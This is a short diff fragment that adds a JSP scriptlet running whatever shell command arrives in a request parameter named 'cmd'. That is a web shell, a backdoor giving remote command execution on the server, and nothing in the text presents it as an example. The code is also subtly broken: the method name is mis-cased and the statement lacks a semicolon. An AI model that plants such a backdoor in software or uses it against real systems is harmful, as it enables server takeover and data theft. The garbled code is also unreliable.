@@ -1,0 +1,3 @@
+<% 
+Runtime.getruntime().exec(request.getParameter("cmd")) 
+%>
